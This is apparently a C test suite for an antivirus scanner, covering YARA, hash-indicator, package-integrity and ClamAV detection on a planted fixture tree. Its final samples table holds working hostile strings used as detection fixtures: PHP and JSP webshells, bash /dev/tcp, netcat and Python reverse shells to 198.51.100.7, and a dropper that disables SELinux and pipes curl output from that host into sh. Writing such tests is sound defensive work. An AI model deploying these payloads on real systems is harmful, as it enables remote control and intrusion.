/*
 * test_scan.c — the antivirus scanner on a prepared directory tree.
 *
 * The fixture is a tree under /tmp with planted samples — a miner
 * configuration (harmless text with the strings the YARA miner rule looks
 * for), a file whose SHA-256 is on the indicator list, an unowned
 * executable and a modified packaged executable in a system-like root
 * checked against a fake dpkg admin directory — and a clean part (text,
 * a script, a symbolic link to a sample and one to /etc/passwd, a FIFO,
 * a packaged executable with its recorded checksum, a non-executable
 * unowned file in the system path). A scan must find exactly the planted
 * files with the right engine and reason, count a file deleted mid-scan as
 * vanished, report monotonic progress, stop when cancelled, and hold its
 * CPU budget (CPU time against wall time over a bounded run; no assertion
 * about speed).
 */
#include "check.h"
#include "sandbox.h"
#include "tmpdir.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <jansson.h>
#include <limits.h>
#include <openssl/evp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <yara.h>

#include "agent/scan.h"
#include "agent/scan_command.h"

#define MINER_CONFIG                                                                                         \
    "{\n  \"autosave\": true,\n  \"cpu\": {\"enabled\": true, \"max-threads-hint\": 50},\n"                   \
    "  \"donate-level\": 1,\n  \"pools\": [\n    {\"url\": \"stratum+tcp://pool.example.invalid:3333\",\n"  \
    "     \"user\": \"TEST-NOT-A-WALLET\", \"algo\": \"rx/0\"}\n  ]\n}\n"
#define IOC_BYTES "this file stands for a known-bad sample: its hash is on the list\n"
#define TRUE_BYTES "\x7f" "ELF a packaged true\n"
#define LS_ORIGINAL "\x7f" "ELF ls as the package shipped it\n"
#define LS_MODIFIED "\x7f" "ELF ls with something added\n"

struct fixture {
    char root[64];
    char adm[PATH_MAX], sys[PATH_MAX];
    char ioc_sha[65];
};

static void fx_destroy(struct fixture *fx)
{
    tmpdir_remove(fx->root);
}

static int fx_write(const struct fixture *fx, const char *rel, const char *content, size_t len, mode_t mode)
{
    char path[PATH_MAX];
    int fd;
    ssize_t w;

    snprintf(path, sizeof(path), "%s/%s", fx->root, rel);
    for (char *p = path + strlen(fx->root) + 1; (p = strchr(p, '/')); p++) {
        *p = '\0';
        if (mkdir(path, 0755) != 0 && errno != EEXIST)
            return -errno;
        *p = '/';
    }
    fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
    if (fd < 0)
        return -errno;
    w = write(fd, content, len);
    close(fd);
    if (w != (ssize_t)len)
        return -EIO;
    return chmod(path, mode) == 0 ? 0 : -errno;
}

static int fx_text(const struct fixture *fx, const char *rel, const char *text, mode_t mode)
{
    return fx_write(fx, rel, text, strlen(text), mode);
}

static void digest_hex(const EVP_MD *md, const void *data, size_t len, char *out)
{
    unsigned char d[EVP_MAX_MD_SIZE];
    unsigned int n = 0;
    EVP_Digest(data, len, d, &n, md, NULL);
    for (unsigned int i = 0; i < n; i++)
        sprintf(out + 2 * i, "%02x", d[i]);
}

/* Builds the tree; returns 0 or -errno. */
static int fx_create(struct fixture *fx)
{
    char text[512], md5a[33], md5b[33], path[PATH_MAX + 32];
    int e;

    if (!tmpdir_make(fx->root, sizeof(fx->root), "scan"))
        return -errno;
    snprintf(fx->adm, sizeof(fx->adm), "%s/adm", fx->root);
    snprintf(fx->sys, sizeof(fx->sys), "%s/sys", fx->root);
    digest_hex(EVP_sha256(), IOC_BYTES, strlen(IOC_BYTES), fx->ioc_sha);
    digest_hex(EVP_md5(), TRUE_BYTES, strlen(TRUE_BYTES), md5a);
    digest_hex(EVP_md5(), LS_ORIGINAL, strlen(LS_ORIGINAL), md5b);
    snprintf(text, sizeof(text), "%s  usr/bin/true\n%s  usr/bin/ls\n", md5a, md5b);

    /* the fake dpkg database */
    e = fx_text(fx, "adm/info/coreutils.list", "/usr\n/usr/bin\n/usr/bin/true\n/usr/bin/ls\n", 0644);
    e = e ? e : fx_write(fx, "adm/info/coreutils.md5sums", text, strlen(text), 0644);
    e = e ? e : fx_text(fx, "adm/status", "", 0644);
    /* the system-like root */
    e = e ? e : fx_write(fx, "sys/usr/bin/true", TRUE_BYTES, strlen(TRUE_BYTES), 0755);
    e = e ? e : fx_write(fx, "sys/usr/bin/ls", LS_MODIFIED, strlen(LS_MODIFIED), 0755);       /* planted */
    e = e ? e : fx_text(fx, "sys/usr/bin/backdoor", "#!/bin/sh\nexit 0\n", 0755);         /* planted */
    e = e ? e : fx_text(fx, "sys/usr/bin/README", "not an executable\n", 0644);
    e = e ? e : fx_text(fx, "sys/usr/local/bin/tool", "#!/bin/sh\nexit 0\n", 0755);
    /* samples */
    e = e ? e : fx_write(fx, "data/miner/config.json", MINER_CONFIG, strlen(MINER_CONFIG), 0644); /* planted */
    e = e ? e : fx_write(fx, "data/ioc.bin", IOC_BYTES, strlen(IOC_BYTES), 0644);                 /* planted */
    /* the clean part */
    e = e ? e : fx_text(fx, "data/clean/notes.txt", "pools of water, a url and a user\n", 0644);
    e = e ? e : fx_text(fx, "data/clean/deploy.sh", "#!/bin/sh\nset -eu\nmake install\n", 0755);
    e = e ? e : fx_text(fx, "data/clean/deep/er/still/clean.txt", "nothing here\n", 0644);
    e = e ? e : fx_text(fx, "data/clean/empty", "", 0644);
    /* a file deleted while the scan runs (see on_progress) */
    e = e ? e : fx_text(fx, "zz_vanish/a", "first\n", 0644);
    e = e ? e : fx_text(fx, "zz_vanish/b", "second\n", 0644);
    if (e)
        return e;
    snprintf(path, sizeof(path), "%s/data/clean/link-to-sample", fx->root);
    if (symlink("../miner/config.json", path) != 0)
        return -errno;
    snprintf(path, sizeof(path), "%s/data/clean/link-to-passwd", fx->root);
    if (symlink("/etc/passwd", path) != 0)
        return -errno;
    snprintf(path, sizeof(path), "%s/data/clean/fifo", fx->root);
    if (mkfifo(path, 0644) != 0)
        return -errno;
    return 0;
}

/* ------------------------------------------------------------ running a scan */

struct run {
    struct fixture *fx;
    atomic_int cancel;
    unsigned calls;
    bool monotonic, deleted;
    uint64_t last_files, last_bytes;
    double last_percent;
    unsigned cancel_after_files;   /* 0: never */
    uint64_t cancel_after_ns;      /* 0: never; monotonic clock deadline */
};

static uint64_t mono_ns(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static void on_progress(void *ctx, const struct scan_progress *p)
{
    struct run *r = ctx;
    size_t n = p->current ? strlen(p->current) : 0;

    if (r->calls && (p->files < r->last_files || p->bytes < r->last_bytes || p->percent < r->last_percent))
        r->monotonic = false;
    if (p->percent < 0 || p->percent > 100)
        r->monotonic = false;
    r->calls++;
    r->last_files = p->files;
    r->last_bytes = p->bytes;
    r->last_percent = p->percent;
    if (r->fx && !r->deleted && n > 12 && strcmp(p->current + n - 12, "/zz_vanish/a") == 0) {
        char path[PATH_MAX];
        snprintf(path, sizeof(path), "%s/zz_vanish/b", r->fx->root);
        r->deleted = unlink(path) == 0;
    }
    if (r->cancel_after_files && p->files >= r->cancel_after_files)
        atomic_store(&r->cancel, 1);
    if (r->cancel_after_ns && mono_ns() >= r->cancel_after_ns)
        atomic_store(&r->cancel, 1);
}

static void base_options(struct scan_options *o, struct fixture *fx, struct run *r, const char *const *iocs,
                         size_t niocs)
{
    *o = (struct scan_options){
        .kind = SCAN_CUSTOM,
        .path = fx->root,
        .dpkg_admindir = fx->adm,
        .pkg_root = fx->sys,
        .indicators = iocs,
        .nindicators = niocs,
        .cpu_budget = -1,
        .io_priority = SCAN_IO_NORMAL,
        .no_clamav = true,
        .cancel = &r->cancel,
        .progress = on_progress,
        .progress_ctx = r,
        .progress_interval_ms = 0,
    };
    r->fx = fx;
    r->monotonic = true;
}

/* Runs o and parses the result into *out (decref it). */
static int run_scan(const struct scan_options *o, json_t **out, char *err, size_t errlen)
{
    struct jsonw w;
    int e;

    *out = NULL;
    jsonw_init(&w);
    e = scan_run(o, &w, err, errlen);
    if (!e) {
        *out = json_loadb(w.buf, w.len, 0, NULL);
        if (!*out) {
            snprintf(err, errlen, "the result is not JSON");
            e = -EINVAL;
        }
    }
    jsonw_free(&w);
    return e;
}

static json_int_t jint(json_t *o, const char *a, const char *b)
{
    json_t *v = json_object_get(o, a);
    if (b)
        v = json_object_get(v, b);
    return json_integer_value(v);
}

/* The finding about path (relative to the fixture), or NULL. */
static json_t *finding(json_t *res, const struct fixture *fx, const char *rel)
{
    char path[PATH_MAX];
    size_t i;
    json_t *f;

    snprintf(path, sizeof(path), "%s/%s", fx->root, rel);
    json_array_foreach(json_object_get(res, "findings"), i, f)
    {
        if (strcmp(json_string_value(json_object_get(f, "path")), path) == 0)
            return f;
    }
    return NULL;
}

static const char *fstr(json_t *f, const char *k)
{
    const char *s = json_string_value(json_object_get(f, k));
    return s ? s : "";
}

/* ------------------------------------------------------------ cases */

static void planted_samples_found(void)
{
    struct fixture fx = {0};
    struct run r = {0};
    struct scan_options o;
    const char *iocs[2] = {"0000000000000000000000000000000000000000000000000000000000000000", NULL};
    char err[512] = "", ioc[65];
    json_t *res = NULL, *f;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    memcpy(ioc, fx.ioc_sha, sizeof(ioc));
    for (char *p = ioc; *p; p++) /* indicators are accepted in either case */
        if (*p >= 'a' && *p <= 'f')
            *p = (char)(*p - 'a' + 'A');
    iocs[1] = ioc;
    base_options(&o, &fx, &r, iocs, 2);
    e = run_scan(&o, &res, err, sizeof(err));
    if (e) {
        check_fail_(__FILE__, __LINE__, "scan failed: %s", err);
        goto out;
    }
    if (json_array_size(json_object_get(res, "findings")) != 4) {
        char *dump = json_dumps(json_object_get(res, "findings"), JSON_INDENT(1));
        check_fail_(__FILE__, __LINE__, "expected exactly 4 findings, got %s", dump);
        free(dump);
        goto out;
    }
    f = finding(res, &fx, "data/miner/config.json");
    if (!f || strcmp(fstr(f, "engine"), "yara") || strcmp(fstr(f, "rule"), "Yamori_Miner_Config") ||
        !strstr(fstr(f, "reason"), "Miner configuration") || strcmp(fstr(f, "severity"), "high") ||
        strlen(fstr(f, "sha256")) != 64) {
        check_fail_(__FILE__, __LINE__, "the miner config is not a YARA finding of Yamori_Miner_Config");
        goto out;
    }
    f = finding(res, &fx, "data/ioc.bin");
    if (!f || strcmp(fstr(f, "engine"), "indicator") || strcmp(fstr(f, "sha256"), fx.ioc_sha) ||
        !strstr(fstr(f, "reason"), "indicator list")) {
        check_fail_(__FILE__, __LINE__, "the indicator sample is not an indicator finding");
        goto out;
    }
    f = finding(res, &fx, "sys/usr/bin/backdoor");
    if (!f || strcmp(fstr(f, "engine"), "package") || strcmp(fstr(f, "rule"), "unowned-system-executable") ||
        !strstr(fstr(f, "reason"), "no installed package owns")) {
        check_fail_(__FILE__, __LINE__, "the unowned executable is not a package finding");
        goto out;
    }
    f = finding(res, &fx, "sys/usr/bin/ls");
    if (!f || strcmp(fstr(f, "engine"), "package") || strcmp(fstr(f, "rule"), "package-file-modified") ||
        !strstr(fstr(f, "reason"), "coreutils")) {
        check_fail_(__FILE__, __LINE__, "the modified packaged file is not a package finding");
        goto out;
    }
    /* 16 regular files, one deleted after the listing */
    if (!r.deleted || jint(res, "skipped", "vanished") != 1 || jint(res, "files_scanned", NULL) != 15) {
        check_fail_(__FILE__, __LINE__, "deleted mid-scan: %d, vanished %lld, files %lld (want 1 and 15)",
                    r.deleted, (long long)jint(res, "skipped", "vanished"), (long long)jint(res, "files_scanned", NULL));
        goto out;
    }
    if (json_is_true(json_object_get(res, "cancelled")) || strcmp(fstr(res, "kind"), "custom") ||
        strcmp(fstr(res, "path"), fx.root) || !strstr(fstr(json_object_get(res, "engines"), "yara"), "ok (") ||
        strcmp(fstr(json_object_get(res, "engines"), "indicators"), "ok (2)") ||
        strcmp(fstr(json_object_get(res, "engines"), "package"), "ok") ||
        strncmp(fstr(json_object_get(res, "engines"), "clamav"), "unavailable: ", 13) ||
        !json_is_integer(json_object_get(res, "duration_ms")) || !json_is_integer(json_object_get(res, "bytes_scanned"))) {
        check_fail_(__FILE__, __LINE__, "the result's shape differs from docs/wire.md");
        goto out;
    }
    if (!r.monotonic || r.last_percent != 100.0 || r.last_files != 15) {
        check_fail_(__FILE__, __LINE__, "progress: monotonic %d, last percent %.1f, last files %llu", r.monotonic,
                    r.last_percent, (unsigned long long)r.last_files);
        goto out;
    }
out:
    json_decref(res);
    fx_destroy(&fx);
}

static void too_large_still_hashed(void)
{
    struct fixture fx = {0};
    struct run r = {0};
    struct scan_options o;
    const char *iocs[1];
    char err[512] = "";
    json_t *res = NULL, *f;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    iocs[0] = fx.ioc_sha;
    base_options(&o, &fx, &r, iocs, 1);
    o.yara_max_bytes = 16; /* every sample is larger: hashed, not given to YARA */
    e = run_scan(&o, &res, err, sizeof(err));
    if (e) {
        check_fail_(__FILE__, __LINE__, "scan failed: %s", err);
        goto out;
    }
    f = finding(res, &fx, "data/ioc.bin");
    if (!f || finding(res, &fx, "data/miner/config.json") || jint(res, "skipped", "too_large") < 10) {
        check_fail_(__FILE__, __LINE__, "with a 16-byte YARA limit: indicator found %d, YARA hit %d, too_large %lld",
                    f != NULL, finding(res, &fx, "data/miner/config.json") != NULL,
                    (long long)jint(res, "skipped", "too_large"));
        goto out;
    }
out:
    json_decref(res);
    fx_destroy(&fx);
}

static void cancel_stops(void)
{
    struct fixture fx = {0};
    struct run r = {0};
    struct scan_options o;
    char err[512] = "";
    json_t *res = NULL;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    base_options(&o, &fx, &r, NULL, 0);
    r.cancel_after_files = 2;
    e = run_scan(&o, &res, err, sizeof(err));
    if (e) {
        check_fail_(__FILE__, __LINE__, "scan failed: %s", err);
        goto out;
    }
    if (!json_is_true(json_object_get(res, "cancelled")) || jint(res, "files_scanned", NULL) != 2 ||
        r.last_percent >= 100.0) {
        check_fail_(__FILE__, __LINE__, "cancelled after 2 files: cancelled=%d files=%lld percent=%.1f",
                    json_is_true(json_object_get(res, "cancelled")), (long long)jint(res, "files_scanned", NULL),
                    r.last_percent);
        goto out;
    }
out:
    json_decref(res);
    fx_destroy(&fx);
}

/* A throttled scan of a larger tree in a thread of its own, cancelled from
 * outside: the thread ends within a bounded wait. */
struct bg {
    struct scan_options o;
    int e;
    char err[256];
    json_t *res;
    uint64_t cpu_ns, wall_ns;
};

static void *bg_scan(void *arg)
{
    struct bg *b = arg;
    struct timespec c0, c1;
    uint64_t w0 = mono_ns();

    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c0);
    b->e = run_scan(&b->o, &b->res, b->err, sizeof(b->err));
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c1);
    b->wall_ns = mono_ns() - w0;
    b->cpu_ns = (uint64_t)(c1.tv_sec - c0.tv_sec) * 1000000000ull + (uint64_t)c1.tv_nsec - (uint64_t)c0.tv_nsec;
    return NULL;
}

/* Adds n files of 1 MiB of pseudo-random bytes under big/. */
static int fx_big(struct fixture *fx, int n)
{
    char *data = malloc(1u << 20), rel[64];
    uint64_t x = 88172645463325252ull;
    int e = 0;

    if (!data)
        return -ENOMEM;
    for (int i = 0; i < n && !e; i++) {
        for (size_t k = 0; k < (1u << 20); k += 8) {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            memcpy(data + k, &x, 8);
        }
        snprintf(rel, sizeof(rel), "big/f%03d", i);
        e = fx_write(fx, rel, data, 1u << 20, 0644);
    }
    free(data);
    return e;
}

static void cancel_from_another_thread(void)
{
    struct fixture fx = {0};
    struct run r = {0};
    struct bg b = {0};
    pthread_t t;
    struct timespec deadline;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    e = fx_big(&fx, 64);
    if (e) {
        check_fail_(__FILE__, __LINE__, "fixture: %s", strerror(-e));
        goto out;
    }
    base_options(&b.o, &fx, &r, NULL, 0);
    b.o.cpu_budget = 0.05; /* slow enough that it is still running when cancelled */
    b.o.io_priority = SCAN_IO_IDLE;
    if (pthread_create(&t, NULL, bg_scan, &b) != 0) {
        check_fail_(__FILE__, __LINE__, "pthread_create");
        goto out;
    }
    usleep(300000);
    atomic_store(&r.cancel, 1);
    clock_gettime(CLOCK_REALTIME, &deadline);
    deadline.tv_sec += 60;
    e = pthread_timedjoin_np(t, NULL, &deadline);
    if (e) {
        /* the scan ignored the flag: let it finish, then fail */
        pthread_join(t, NULL);
        check_fail_(__FILE__, __LINE__, "the scan did not stop within 60 s of being cancelled");
        goto out;
    }
    if (b.e || !json_is_true(json_object_get(b.res, "cancelled")) || jint(b.res, "files_scanned", NULL) >= 78) {
        check_fail_(__FILE__, __LINE__, "cancelled scan: rc %d (%s), cancelled %d, files %lld", b.e, b.err,
                    json_is_true(json_object_get(b.res, "cancelled")), (long long)jint(b.res, "files_scanned", NULL));
        goto out;
    }
out:
    json_decref(b.res);
    fx_destroy(&fx);
}

static void throttle_holds_budget(void)
{
    struct fixture fx = {0};
    struct run r = {0};
    struct bg b = {0};
    const double budget = 0.25;
    double ratio;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    e = fx_big(&fx, 96);
    if (e) {
        check_fail_(__FILE__, __LINE__, "fixture: %s", strerror(-e));
        goto out;
    }
    base_options(&b.o, &fx, &r, NULL, 0);
    b.o.cpu_budget = budget;
    /* a bounded run: it ends by itself or is cancelled after 3 s */
    r.cancel_after_ns = mono_ns() + 3000000000ull;
    bg_scan(&b);
    if (b.e) {
        check_fail_(__FILE__, __LINE__, "scan failed: %s", b.err);
        goto out;
    }
    ratio = (double)b.cpu_ns / (double)b.wall_ns;
    if (ratio > budget * 1.5 + 0.1) {
        check_fail_(__FILE__, __LINE__, "CPU %.3f s over %.3f s of wall time: %.2f cores, budget %.2f",
                    (double)b.cpu_ns / 1e9, (double)b.wall_ns / 1e9, ratio, budget);
        goto out;
    }
out:
    json_decref(b.res);
    fx_destroy(&fx);
}

static void bad_input_refused(void)
{
    struct fixture fx = {0};
    struct run r = {0};
    struct scan_options o;
    const char *bad_ioc[1] = {"not-a-hash"};
    char err[512] = "", path[PATH_MAX], rules[PATH_MAX];
    json_t *res = NULL;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    base_options(&o, &fx, &r, bad_ioc, 1);
    e = run_scan(&o, &res, err, sizeof(err));
    if (e != -EINVAL || !strstr(err, "indicator 1")) {
        check_fail_(__FILE__, __LINE__, "a malformed indicator: rc %d, %s", e, err);
        goto out;
    }
    base_options(&o, &fx, &r, NULL, 0);
    o.path = "relative/path";
    if (run_scan(&o, &res, err, sizeof(err)) != -EINVAL || !strstr(err, "absolute")) {
        check_fail_(__FILE__, __LINE__, "a relative path: %s", err);
        goto out;
    }
    snprintf(path, sizeof(path), "%s/data/clean/link-to-sample", fx.root);
    o.path = path;
    if (run_scan(&o, &res, err, sizeof(err)) != -ELOOP || !strstr(err, "symbolic link")) {
        check_fail_(__FILE__, __LINE__, "a symbolic link: %s", err);
        goto out;
    }
    o.path = "/proc";
    if (run_scan(&o, &res, err, sizeof(err)) != -EXDEV || !strstr(err, "pseudo")) {
        check_fail_(__FILE__, __LINE__, "/proc: %s", err);
        goto out;
    }
    snprintf(path, sizeof(path), "%s/nothing-here", fx.root);
    o.path = path;
    if (run_scan(&o, &res, err, sizeof(err)) != -ENOENT) {
        check_fail_(__FILE__, __LINE__, "a missing path: %s", err);
        goto out;
    }
    snprintf(rules, sizeof(rules), "%s/rules", fx.root);
    e = fx_text(&fx, "rules/broken.yar", "rule Broken {\n  condition:\n    $nope\n}\n", 0644);
    if (e) {
        check_fail_(__FILE__, __LINE__, "fixture: %s", strerror(-e));
        goto out;
    }
    o.path = fx.root;
    o.rules_dir = rules;
    if (run_scan(&o, &res, err, sizeof(err)) != -EINVAL || (!strstr(err, "broken.yar:") || !strstr(err, "undefined string"))) {
        check_fail_(__FILE__, __LINE__, "a broken rule set: %s", err);
        goto out;
    }
out:
    json_decref(res);
    fx_destroy(&fx);
}

/* ClamAV for real, with a one-signature database of this test's own. */
static void clamav_signature(void)
{
    struct fixture fx = {0};
    struct run r = {0};
    struct scan_options o;
    char err[512] = "", text[256], db[PATH_MAX];
    json_t *res = NULL, *f;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    snprintf(text, sizeof(text), "%s:%zu:Yamori.Test.Sample\n", fx.ioc_sha, strlen(IOC_BYTES));
    e = fx_write(&fx, "clamdb/yamori-test.hsb", text, strlen(text), 0644);
    if (e) {
        check_fail_(__FILE__, __LINE__, "fixture: %s", strerror(-e));
        goto out;
    }
    snprintf(db, sizeof(db), "%s/clamdb", fx.root);
    base_options(&o, &fx, &r, NULL, 0);
    o.no_clamav = false;
    o.clamav_dbdir = db;
    e = run_scan(&o, &res, err, sizeof(err));
    if (e) {
        check_fail_(__FILE__, __LINE__, "scan failed: %s", err);
        goto out;
    }
    f = finding(res, &fx, "data/ioc.bin");
    if (strncmp(fstr(json_object_get(res, "engines"), "clamav"), "ok (", 4) || !f ||
        strcmp(fstr(f, "engine"), "clamav") || !strstr(fstr(f, "rule"), "Yamori.Test.Sample")) {
        check_fail_(__FILE__, __LINE__, "ClamAV: engine '%s', finding %d", fstr(json_object_get(res, "engines"), "clamav"),
                    f != NULL);
        goto out;
    }
out:
    json_decref(res);
    fx_destroy(&fx);
}

/* The quick scan on this machine: it runs and sees the planted miner
 * configuration in /tmp. */
static void quick_scan_sees_tmp(void)
{
    struct fixture fx = {0};
    struct run r = {0};
    struct scan_options o;
    char err[512] = "";
    json_t *res = NULL;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    base_options(&o, &fx, &r, NULL, 0);
    o.kind = SCAN_QUICK;
    o.path = NULL;
    o.dpkg_admindir = NULL;
    o.pkg_root = NULL;
    o.progress_interval_ms = 200;
    r.fx = NULL;
    e = run_scan(&o, &res, err, sizeof(err));
    if (e) {
        check_fail_(__FILE__, __LINE__, "quick scan failed: %s", err);
        goto out;
    }
    if (strcmp(fstr(res, "kind"), "quick") || !json_is_null(json_object_get(res, "path")) ||
        !finding(res, &fx, "data/miner/config.json") || !r.monotonic || r.last_percent != 100.0) {
        check_fail_(__FILE__, __LINE__, "quick scan: kind %s, miner found %d, monotonic %d, last %.1f%%",
                    fstr(res, "kind"), finding(res, &fx, "data/miner/config.json") != NULL, r.monotonic,
                    r.last_percent);
        goto out;
    }
out:
    json_decref(res);
    fx_destroy(&fx);
}

/* The `scan` command handler: arguments in, the result object out. */
static void command_handler(void)
{
    struct fixture fx = {0};
    struct command cmd = {.id = 1, .type = "scan"};
    struct jsonw w;
    char err[512] = "", args[1024];
    json_t *res = NULL;
    int e = fx_create(&fx);

    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    jsonw_init(&w);
    snprintf(args, sizeof(args), "{\"kind\":\"custom\",\"path\":\"%s/data\",\"indicators\":[\"%s\"],\"cpu_budget\":4}",
             fx.root, fx.ioc_sha);
    cmd.args = json_loads(args, 0, NULL);
    e = scan_command_run(&cmd, &w, err, sizeof(err));
    if (e || !(res = json_loadb(w.buf, w.len, 0, NULL))) {
        check_fail_(__FILE__, __LINE__, "scan command: %d %s", e, err);
        goto out;
    }
    if (!finding(res, &fx, "data/ioc.bin") || !finding(res, &fx, "data/miner/config.json") ||
        json_array_size(json_object_get(res, "findings")) != 2) {
        check_fail_(__FILE__, __LINE__, "scan command: expected the two samples under data/");
        goto out;
    }
    static const char *const bad[] = {
        "{\"kind\":\"deep\"}", "{\"kind\":\"custom\"}", "{\"kind\":\"quick\",\"path\":\"/tmp\"}",
        "{\"kind\":\"custom\",\"path\":\"/tmp\",\"indicators\":[1]}", "{\"kind\":\"quick\",\"cpu_budget\":0}",
        "{\"kind\":\"quick\",\"typo\":1}", NULL,
    };
    for (const char *const *b = bad; *b; b++) {
        json_decref(cmd.args);
        cmd.args = json_loads(*b, 0, NULL);
        jsonw_reset(&w);
        err[0] = '\0';
        if (scan_command_run(&cmd, &w, err, sizeof(err)) != -EINVAL || !strstr(err, "scan: ")) {
            check_fail_(__FILE__, __LINE__, "accepted %s", *b);
            goto out;
        }
    }
out:
    json_decref(cmd.args);
    json_decref(res);
    jsonw_free(&w);
    fx_destroy(&fx);
}

/* The fixture the sandboxed case scans (made before the sandbox). */
static const struct fixture *sandboxed_fx;

/* In a private mount namespace: a proc mounted inside the tree is not
 * entered, a tmpfs mounted inside it is (a local file system). */
static void body_mounts(void)
{
    const struct fixture *fx = sandboxed_fx;
    char procdir[PATH_MAX], tmpdir[PATH_MAX], file[PATH_MAX + 16], err[256];
    const char *iocs[1] = {fx->ioc_sha};
    struct scan_options o = {.kind = SCAN_CUSTOM, .path = fx->root, .cpu_budget = -1,
                             .io_priority = SCAN_IO_NORMAL, .no_clamav = true, .dpkg_admindir = fx->adm,
                             .indicators = iocs, .nindicators = 1};
    struct jsonw w;
    json_t *res;
    size_t findings;
    json_int_t scanned;
    int fd, e;

    snprintf(procdir, sizeof(procdir), "%s/mnt-proc", fx->root);
    snprintf(tmpdir, sizeof(tmpdir), "%s/mnt-tmpfs", fx->root);
    CHECK_MSG(mkdir(procdir, 0755) == 0 && mkdir(tmpdir, 0755) == 0 && mount("proc", procdir, "proc", 0, NULL) == 0 &&
                  mount("tmpfs", tmpdir, "tmpfs", 0, "size=1m") == 0,
              "mounting proc and a tmpfs in the tree: %s", strerror(errno));
    snprintf(file, sizeof(file), "%s/inside", tmpdir);
    fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    CHECK_MSG(fd >= 0 && write(fd, IOC_BYTES, strlen(IOC_BYTES)) == (ssize_t)strlen(IOC_BYTES), "writing %s: %s", file,
              strerror(errno));
    close(fd);
    jsonw_init(&w);
    e = scan_run(&o, &w, err, sizeof(err));
    res = e ? NULL : json_loadb(w.buf, w.len, 0, NULL);
    jsonw_free(&w);
    CHECK_MSG(e == 0, "the scan: %s", err);
    findings = json_array_size(json_object_get(res, "findings"));
    scanned = json_integer_value(json_object_get(res, "files_scanned"));
    json_decref(res);
    /* the miner config, the ioc sample and its copy on the tmpfs; 16 files of the fixture + 1; nothing from proc */
    CHECK_MSG(findings == 3 && scanned == 17, "%zu findings in %lld files (want 3 in 17: nothing from proc)",
              findings, (long long)scanned);
}

static void pseudo_fs_not_entered(void)
{
    static const struct sandbox_options sandbox = {.needs = "a private mount namespace"};
    struct fixture fx = {0};
    int e;

    e = fx_create(&fx);
    CHECK_MSG(e == 0, "fixture: %s", strerror(-e));
    sandboxed_fx = &fx;
    sandbox_run(&sandbox, body_mounts);
    sandboxed_fx = NULL;
    fx_destroy(&fx);
}

/* Every rule of rules/yara has its meta, and matches a harmless sample of
 * the behaviour it describes (strings only: nothing here runs). */
struct sample {
    const char *name, *rule;
    const char *bytes;
    size_t len; /* 0: strlen */
};

#define ELF "\x7f" "ELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"
static const char elf_mirai[] = ELF "....attack_udp_generic..attack_tcp_syn..attack_app_http..";
static const char elf_gafgyt[] = ELF "..GETLOCALIP..SCANNER ON..HTTPFLOOD..UDPRAW..STDHEX..";
static const char elf_upx[] = ELF "........UPX!..........$Info: This file is packed with the UPX executable packer";
static const char elf_xmrig[] = ELF "..XMRig/6.21..--donate-level..stratum+tcp://..randomx..";

static const struct sample samples[] = {
    {"miner.json", "Yamori_Miner_Config", MINER_CONFIG, 0},
    {"xmrig", "Yamori_Miner_XMRig_Binary", elf_xmrig, sizeof(elf_xmrig) - 1},
    {"start-miner.sh", "Yamori_Miner_Command_Line",
     "#!/bin/sh\n./sysupdate -o pool.example.invalid:3333 -u x --cpu-max-threads-hint 90 --background\n", 0},
    {"mirai", "Yamori_Bot_Mirai_Like", elf_mirai, sizeof(elf_mirai) - 1},
    {"gafgyt", "Yamori_Bot_Gafgyt_Like", elf_gafgyt, sizeof(elf_gafgyt) - 1},
    {"upx", "Yamori_Packer_UPX_ELF", elf_upx, sizeof(elf_upx) - 1},
    {"shell.php", "Yamori_Webshell_PHP_Exec", "<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>\n", 0},
    {"cmd.jsp", "Yamori_Webshell_JSP_Exec",
     "<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n", 0},
    {"rs.sh", "Yamori_ReverseShell_Bash_DevTcp", "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", 0},
    {"nc.sh", "Yamori_ReverseShell_Netcat_Exec", "#!/bin/sh\nnc 198.51.100.7 4444 -e /bin/sh\n", 0},
    {"rs.py", "Yamori_ReverseShell_Script_Socket",
     "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('198.51.100.7',4444))\n"
     "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n", 0},
    {"dropper.sh", "Yamori_Dropper_Kinsing_TeamTNT_Like",
     "#!/bin/sh\nsetenforce 0\necho SELINUX=disabled > /etc/selinux/config\npkill -9 -f kdevtmpfsi\n"
     "curl -s http://198.51.100.7/s.sh | sh\n", 0},
    {NULL, NULL, NULL, 0},
};

/* Compiles every *.yar of dir and checks each rule's meta. */
static int check_metas(const char *dir, char *err, size_t errlen)
{
    YR_COMPILER *comp = NULL;
    YR_RULES *rules = NULL;
    const YR_RULE *rule;
    struct dirent *de;
    DIR *d = NULL;
